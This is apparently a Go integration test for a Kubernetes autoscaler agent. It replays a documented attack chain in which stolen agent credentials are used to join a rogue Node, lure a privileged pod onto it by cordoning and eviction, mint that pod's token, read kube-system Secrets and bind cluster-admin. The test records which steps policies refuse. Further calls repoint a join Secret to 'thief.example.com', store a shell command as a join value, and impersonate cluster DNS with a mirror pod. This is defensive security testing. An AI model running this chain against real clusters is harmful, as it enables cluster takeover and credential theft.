package services

import (
	"context"
	"flag"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	authorizationv1 "k8s.io/api/authorization/v1"
	certv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	policyv1 "k8s.io/api/policy/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/autoscaler-agent/autoscaler-agent/bootstrap"
	"github.com/autoscaler-agent/autoscaler-agent/test/await"
)

var updateThief = flag.Bool("update", false, "write the thief's calls of docs/security-rules.md anew")

// refusers are what refuses a call, as docs/security-rules.md names it, with words of its answers. Any other name
// is that of a policy.
var refusers = map[string][]string{
	"RBAC":                    {" cannot "},
	"the Node authorizer":     {"no relationship found between node", "can only access node lease with the same name"},
	"NodeRestriction":         {"is not allowed to", "can only create pods with spec.nodeName set to itself", "a mirror pod may not reference service accounts"},
	"the PodDisruptionBudget": {"disruption budget"},
}

const ofAgent, ofToken, ofNode, ofPod = "agent", "token", "Node", "pod" // kubeconfig, join token, certificate, token

// calls plays the thief's table of docs/security-rules.md from its first call, which has nothing but the agent's
// kubeconfig, to its last one, which has the cluster (issue 41, D).
func (s *stolen) calls(t *testing.T) {
	h := &heist{stolen: s}
	h.prepare(t)
	calls := slices.Concat(h.join(), h.lure(), h.take(), h.beside())
	for _, c := range calls {
		if ok := t.Run(c.name, func(t *testing.T) { c.judge(t, c.try(t, s)) }); !ok && c.numbered() {
			t.Fatal("the calls after it need what this one gives")
		}
	}
	compareThief(t, calls)
}

// compareThief compares the table of docs/security-rules.md with the calls that were played.
func compareThief(t *testing.T, calls []attack) {
	t.Helper()
	const page = "../../../docs/security-rules.md"
	const begin, end = "<!-- the thief's calls begin: cd test && go test ./suite/services -run TestStolenCredential -update -->\n", "<!-- the thief's calls end -->\n"
	raw, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	head, rest, ok := strings.Cut(string(raw), begin)
	old, tail, closed := strings.Cut(rest, end)
	if !ok || !closed {
		t.Fatal("docs/security-rules.md lacks the marks of the thief's calls")
	}
	table := thiefTable(calls)
	switch {
	case old == table:
	case *updateThief:
		if err := os.WriteFile(page, []byte(head+begin+table+end+tail), 0o644); err != nil {
			t.Fatal(err)
		}
	default:
		t.Errorf("the thief's calls in docs/security-rules.md are not those of this test; -update writes:\n%s", table)
	}
}

// numbered: the chain to cluster-admin needs the call.
func (a attack) numbered() bool { return a.passes && !a.beside }

// thiefTable numbers the calls of the chain.
func thiefTable(calls []attack) string {
	var out strings.Builder
	out.WriteString("\n")
	n := 0
	for _, c := range calls {
		number, outcome := "", "passes"
		switch {
		case c.numbered():
			n++
			number = fmt.Sprintf(" (%d)", n)
		case !c.passes && refusers[c.by] == nil:
			outcome = "refused by the policy `" + c.by + "`"
		case !c.passes:
			outcome = "refused by " + c.by
		}
		fmt.Fprintf(&out, "- %s%s: %s: %s\n", c.with, number, c.name, outcome)
	}
	return out.String() + "\n"
}

// join makes a Node of the thief's own.
func (h *heist) join() []attack {
	ctx := h.ctx
	return []attack{
		{with: ofAgent, name: "create a token of the chosen pod's service account", by: "RBAC", says: "serviceaccounts/token", try: func(_ *testing.T, s *stolen) error {
			_, err := h.mint(s.thief, h.chosen)
			return err
		}},
		{with: ofAgent, name: "create a join token of kubeadm's group, whose joins kube-controller-manager approves", by: "autoscaler-agent-tokens", says: "jointokengroups", try: makes("asa012", group(bootstrap.KubeadmGroup))},
		{with: ofAgent, name: "create the join token `bootstrap-token-asa012`", passes: true, try: func(_ *testing.T, s *stolen) error {
			_, err := s.thief.CoreV1().Secrets("kube-system").Create(ctx, token("asa012", nil), metav1.CreateOptions{})
			return err
		}},
		{with: ofAgent, name: "create a certificate request", by: "RBAC", says: "certificatesigningrequests", try: func(t *testing.T, s *stolen) error {
			_, err := h.ask(t, s.thief)
			return err
		}},
		{with: ofToken, name: "create a certificate request under a new name", passes: true, try: func(t *testing.T, _ *stolen) (err error) {
			byToken := h.client(t, "asa012.0123456789abcdef")
			await.Nil(t, "the API server knows the token", func(context.Context) error {
				h.csr, err = h.ask(t, byToken)
				return err
			})
			return nil
		}},
		{with: ofAgent, name: "write a worker that is there into the list of joins", by: "autoscaler-agent-joins", says: "has a Lease", try: lists("home", uid)},
		{with: ofAgent, name: "approve a request that the list of joins does not name", by: "autoscaler-agent-approvals-joins", says: "does not name this request", try: joins(mole).with(func(w *wish) { w.unlisted = true }).approve},
		{with: ofAgent, name: "write the request into the list of joins", passes: true, try: func(t *testing.T, s *stolen) error { return lists(mole, string(h.csr.UID))(t, s) }},
		{with: ofAgent, name: "approve the request", passes: true, try: func(t *testing.T, s *stolen) (err error) {
			await.True(t, "the policy sees the list", func() bool {
				err = joins(mole).with(func(w *wish) { w.unlisted = true }).approval(t, s, h.csr)
				return err == nil || !strings.Contains(err.Error(), "does not name this request")
			})
			if err == nil {
				h.byNode = h.certified(t)
			}
			return err
		}},
		{with: ofAgent, name: "approve a request under the name of a control-plane Node", by: "autoscaler-agent-approvals-nodes", says: "of the control plane", try: joins("leader").approve},
		{with: ofNode, name: "create the Node with a label of `node-restriction.kubernetes.io/`", by: "NodeRestriction", try: func(*testing.T, *stolen) error {
			return h.register(map[string]string{"node-restriction.kubernetes.io/tier": "secret"})
		}},
		{with: ofNode, name: "create the Node", passes: true, try: func(*testing.T, *stolen) error { return h.register(nil) }},
		{with: ofNode, name: "report the Node Ready, with 400 CPUs", passes: true, try: func(*testing.T, *stolen) error { return reports(ctx, h.byNode, mole, "400") }},
	}
}

// lure brings the chosen pod to that Node.
func (h *heist) lure() []attack {
	ctx := h.ctx
	evicts := func(pod *corev1.Pod) func(*testing.T, *stolen) error {
		return func(_ *testing.T, s *stolen) error {
			return s.thief.PolicyV1().Evictions(pod.Namespace).Evict(ctx, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Namespace: pod.Namespace, Name: pod.Name}})
		}
	}
	cordon := func(n *corev1.Node) { n.Spec.Unschedulable = true }
	return []attack{
		{with: ofAgent, name: "cordon a control-plane Node", by: "autoscaler-agent-nodes", says: "of the control plane", try: updates("leader", cordon)},
		{with: ofAgent, name: "cordon the worker of the chosen pod", passes: true, try: updates("home", cordon)},
		{with: ofAgent, name: "cordon another worker (a call for each)", passes: true, try: updates("spare", cordon)},
		{with: ofAgent, name: "taint a worker with NoExecute, which ends its pods past every budget", by: "autoscaler-agent-nodes", says: "one effect and one form", try: touches("home", taint("ToBeDeletedByClusterAutoscaler", "1700000000", corev1.TaintEffectNoExecute))},
		{with: ofAgent, name: "delete a worker that is Ready", by: "autoscaler-agent-nodes", says: "no Node that is Ready", try: deletes("home")},
		{with: ofAgent, name: "delete the chosen pod", by: "RBAC", says: "cannot delete", try: func(_ *testing.T, s *stolen) error {
			return s.thief.CoreV1().Pods(h.chosen.Namespace).Delete(ctx, h.chosen.Name, metav1.DeleteOptions{})
		}},
		{with: ofAgent, name: "evict a pod whose budget allows no disruption", by: "the PodDisruptionBudget", try: evicts(h.guarded)},
		{with: ofAgent, name: "evict the chosen pod", passes: true, try: evicts(h.chosen)},
		{with: ofAgent, name: "bind a pod to the new Node", by: "RBAC", says: "pods/binding", try: func(_ *testing.T, s *stolen) error {
			return s.thief.CoreV1().Pods(h.chosen.Namespace).Bind(ctx, &corev1.Binding{ObjectMeta: metav1.ObjectMeta{Name: h.chosen.Name}, Target: corev1.ObjectReference{Kind: "Node", Name: mole}}, metav1.CreateOptions{})
		}},
	}
}

// take uses what the pod that kube-scheduler puts there may do.
func (h *heist) take() []attack {
	ctx := h.ctx
	var byPod kubernetes.Interface
	return []attack{
		{with: ofNode, name: "create a token of the service account of a pod on another Node", by: "the Node authorizer", try: func(*testing.T, *stolen) error {
			_, err := h.mint(h.byNode, h.guarded)
			return err
		}},
		{with: ofNode, name: "read a Secret of a pod on another Node", by: "the Node authorizer", try: func(*testing.T, *stolen) error {
			_, err := h.byNode.CoreV1().Secrets(h.guarded.Namespace).Get(ctx, "guarded", metav1.GetOptions{})
			return err
		}},
		{with: ofNode, name: "create a token of the service account of the pod that followed the evicted one", passes: true, try: func(t *testing.T, _ *stolen) error {
			pod := h.comes(t, "powerful", mole)
			await.Nil(t, "the Node authorizer knows that the pod is bound", func(context.Context) error {
				text, err := h.mint(h.byNode, pod)
				if err == nil {
					byPod = h.client(t, text)
				}
				return err
			})
			return nil
		}},
		{with: ofPod, name: "read every Secret of kube-system", passes: true, try: func(*testing.T, *stolen) error {
			_, err := byPod.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			return err
		}},
		{with: ofPod, name: "bind a user to cluster-admin", passes: true, try: func(*testing.T, *stolen) error { return binding(ctx, byPod) }},
	}
}

// beside are what the kubeconfig is worth besides ("What is left to the thief"), and what stops short of it.
func (h *heist) beside() []attack {
	ctx := h.ctx
	calls := []attack{
		{name: "delete a worker that is not Ready", passes: true, try: deletes("dead")},
		{name: "put a worker that is not Ready out of service", passes: true, try: touches("dead", taint("node.kubernetes.io/out-of-service", "nodeshutdown", corev1.TaintEffectNoExecute))},
		{name: "put a Ready worker out of service", by: "autoscaler-agent-nodes", says: "out of service", try: touches("ready", taint("node.kubernetes.io/out-of-service", "nodeshutdown", corev1.TaintEffectNoExecute))},
		{name: "write labels of a worker", by: "autoscaler-agent-nodes", says: "no label of a Node", try: touches("ready", func(n *corev1.Node) { n.Labels = map[string]string{"tier": "secret"} })},
		{name: "approve the new Node's serving certificate for `NAME.NAMESPACE` of a Service", passes: true, try: serves(mole).with(func(w *wish) { w.dns = append(w.dns, "web.shop") }).approve},
		{name: "approve it for `NAME.NAMESPACE.svc`", by: "autoscaler-agent-approvals", says: "asks for a name", try: serves(mole).with(func(w *wish) { w.dns = append(w.dns, "web.shop.svc") }).approve},
		{name: "approve it for the API server's address", by: "autoscaler-agent-approvals*", says: "address", try: func(t *testing.T, s *stolen) error {
			return serves(mole).with(func(w *wish) { w.ips = append(w.ips, s.serviceIP(t)) }).approve(t, s)
		}},
		{name: "deny a kubelet's request", passes: true, try: serves("ready").with(func(w *wish) {
			w.change = func(c *certv1.CertificateSigningRequest) { c.Status.Conditions[0].Type = certv1.CertificateDenied }
		}).approve},
		{name: "delete a join token of the agent", passes: true, try: foreign(token("asa013", nil), func(ctx context.Context, s *stolen, x *corev1.Secret) error {
			return s.thief.CoreV1().Secrets(x.Namespace).Delete(ctx, x.Name, metav1.DeleteOptions{})
		})},
		{name: "hold the agent's Lease", passes: true, try: can(leaseNamed("autoscaler-agent"))},
		{name: "write the status page", passes: true, try: can(mapNamed("cluster-autoscaler-status"))},
		{name: "write other join values into the Secret `autoscaler-agent-join`", passes: true, try: func(t *testing.T, s *stolen) error {
			return foreign(joinSecret(t), func(ctx context.Context, s *stolen, x *corev1.Secret) error {
				x.Data["JOIN_ENDPOINT"] = []byte("thief.example.com:6443")
				_, err := s.thief.CoreV1().Secrets(x.Namespace).Update(ctx, x, metav1.UpdateOptions{})
				return err
			})(t, s)
		}},
		{name: "create an Event of the agent's in any namespace", passes: true, try: func(_ *testing.T, s *stolen) error {
			_, err := s.thief.CoreV1().Events("default").Create(ctx, agentEvent("default"), dry)
			return err
		}},
		named("create an Event of a megabyte", "autoscaler-agent-events", "Event of a megabyte", h.eventAttacks()),
		named("change somebody else's Event", "autoscaler-agent-events", "Event of a kubelet changed", h.eventAttacks()),
		named("tie a pending request to an owner that is not there, so that the garbage collector deletes it", "autoscaler-agent-approvals", "pending request of another with an owner and no decision", h.approvalAttacks()),
		named("put 200 KB of annotations on a request", "autoscaler-agent-approvals", "approval with 200 KB of annotations", h.approvalAttacks()),
		{name: "put 200 KB into the `managedFields` of a worker (of a request the API server takes none)", passes: true, try: fillsManagedFields},
		named("write a command of the shell as a join value", "autoscaler-agent-join-secret", "join information that is a command", h.secretAttacks()),
		{name: "write a Node that is Ready and has no Lease into the list of joins (a kubelet makes its Lease anew within ten seconds)", passes: true, try: lists("plain2", uid)},
		{name: "read all pods", passes: true, try: func(_ *testing.T, s *stolen) error {
			_, err := s.thief.CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			return err
		}},
		{name: "ask for anybody's rights", passes: true, try: func(_ *testing.T, s *stolen) error {
			_, err := s.thief.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
				User: "x", ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "*", Resource: "*"}}}, metav1.CreateOptions{})
			return err
		}},
	}
	// The rest is refused by RBAC; rights_table_test.go has more of them.
	for _, a := range h.otherAttacks() {
		if does, is := map[string]string{"itself an administrator": "bind itself to cluster-admin", "its own role widened": "widen its own role", "policy deleted": "delete a policy",
			"another user played": "impersonate another user", "pod made": "create a pod", "budget taken away": "delete a PodDisruptionBudget"}[a.name]; is {
			calls = append(calls, attack{name: does, by: "RBAC", says: a.says, try: a.try})
		}
	}
	for i := range calls {
		calls[i].with, calls[i].beside = ofAgent, true
	}
	return append(calls, h.kubelets()...)
}

// fillsManagedFields writes 200 KB of managedFields, and fails where they are not stored in a Node, or are in a request: of a subresource,
// as the approval is one, the API server ignores them.
func fillsManagedFields(t *testing.T, s *stolen) error {
	now := metav1.Now()
	entry := func(version string) []metav1.ManagedFieldsEntry {
		return []metav1.ManagedFieldsEntry{{Manager: "x", Operation: metav1.ManagedFieldsOperationUpdate, APIVersion: version, Time: &now, FieldsType: "FieldsV1",
			FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:annotations":{"f:` + strings.Repeat("x", 200<<10) + `":{}}}}`)}}
	}
	w := serves("ready").with(func(w *wish) {
		w.change = func(c *certv1.CertificateSigningRequest) { c.ManagedFields = entry("certificates.k8s.io/v1") }
	})
	csr := w.send(t, s)
	if err := w.approval(t, s, csr); err != nil {
		return err
	}
	csr, err := s.admin.CertificatesV1().CertificateSigningRequests().Get(t.Context(), csr.Name, metav1.GetOptions{})
	if err != nil {
		return err
	}
	if csr.Size() > 4096 {
		return fmt.Errorf("the API server stores %d bytes of a request", csr.Size())
	}
	n, err := s.thief.CoreV1().Nodes().Get(t.Context(), "ready2", metav1.GetOptions{})
	if err != nil {
		return err
	}
	n.ManagedFields = append(n.ManagedFields, entry("v1")...)
	if n, err = s.thief.CoreV1().Nodes().Update(t.Context(), n, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}}); err == nil && n.Size() < 200<<10 {
		err = fmt.Errorf("the API server stores %d bytes of a Node", n.Size())
	}
	return err
}

// named is a call that another table plays, too.
func named(does, by, attackName string, table []attack) attack {
	i := slices.IndexFunc(table, func(a attack) bool { return a.name == attackName })
	return attack{name: does, by: by, says: table[i].says, try: table[i].try}
}

// kubelets is what a worker's credential is worth besides: the thief's own Node has it, and so has a stolen one.
func (h *heist) kubelets() []attack {
	ctx := h.ctx
	calls := []attack{
		{name: "create a mirror pod in kube-system with the label of the cluster's DNS, and report it Ready: its address is one of the DNS Service", passes: true, try: func(t *testing.T, s *stolen) error {
			n, err := h.byNode.CoreV1().Nodes().Get(ctx, mole, metav1.GetOptions{})
			if err != nil {
				return err
			}
			yes := true
			pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "coredns-" + mole, Labels: map[string]string{"k8s-app": "kube-dns"}, Annotations: map[string]string{corev1.MirrorPodAnnotationKey: "x"},
				OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "Node", Name: mole, UID: n.UID, Controller: &yes}}},
				Spec: corev1.PodSpec{NodeName: mole, Containers: []corev1.Container{{Name: "c", Image: "x"}}}}
			if _, err := h.byNode.CoreV1().Pods(pod.Namespace).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
				return err
			}
			patch := `{"status":{"phase":"Running","podIP":"10.0.66.6","podIPs":[{"ip":"10.0.66.6"}],"conditions":[{"type":"Ready","status":"True"}]}}`
			if _, err := h.byNode.CoreV1().Pods(pod.Namespace).Patch(ctx, pod.Name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}, "status"); err != nil {
				return err
			}
			await.True(t, "the EndpointSlice of the DNS Service has the address", func() bool {
				list, err := s.admin.DiscoveryV1().EndpointSlices("kube-system").List(ctx, metav1.ListOptions{LabelSelector: "kubernetes.io/service-name=kube-dns"})
				return err == nil && slices.ContainsFunc(list.Items, func(x discoveryv1.EndpointSlice) bool {
					return slices.ContainsFunc(x.Endpoints, func(e discoveryv1.Endpoint) bool { return slices.Contains(e.Addresses, "10.0.66.6") })
				})
			})
			return nil
		}},
		{name: "create an Event of any source, about any object, of a megabyte", passes: true, try: func(*testing.T, *stolen) error {
			e := agentEvent("kube-system")
			e.Message = strings.Repeat("x", 1000<<10)
			_, err := h.byNode.CoreV1().Events(e.Namespace).Create(ctx, e, dry)
			return err
		}},
		{name: "write the Lease of another Node", by: "the Node authorizer", try: func(_ *testing.T, s *stolen) error {
			l, err := s.admin.CoordinationV1().Leases(corev1.NamespaceNodeLease).Get(ctx, "home", metav1.GetOptions{})
			if err == nil {
				_, err = h.byNode.CoordinationV1().Leases(l.Namespace).Update(ctx, l, metav1.UpdateOptions{})
			}
			return err
		}},
		{name: "create a mirror pod on another Node", by: "NodeRestriction", try: func(*testing.T, *stolen) error {
			pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "x", Annotations: map[string]string{corev1.MirrorPodAnnotationKey: "x"}}, Spec: corev1.PodSpec{NodeName: "home", Containers: []corev1.Container{{Name: "c", Image: "x"}}}}
			_, err := h.byNode.CoreV1().Pods(pod.Namespace).Create(ctx, pod, metav1.CreateOptions{})
			return err
		}},
		{name: "create a mirror pod with a service account", by: "NodeRestriction", try: func(*testing.T, *stolen) error {
			pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "x", Annotations: map[string]string{corev1.MirrorPodAnnotationKey: "x"}}, Spec: corev1.PodSpec{NodeName: mole, ServiceAccountName: "powerful", Containers: []corev1.Container{{Name: "c", Image: "x"}}}}
			_, err := h.byNode.CoreV1().Pods(pod.Namespace).Create(ctx, pod, metav1.CreateOptions{})
			return err
		}},
	}
	for i := range calls {
		calls[i].with, calls[i].beside = ofNode, true
	}
	return calls
}
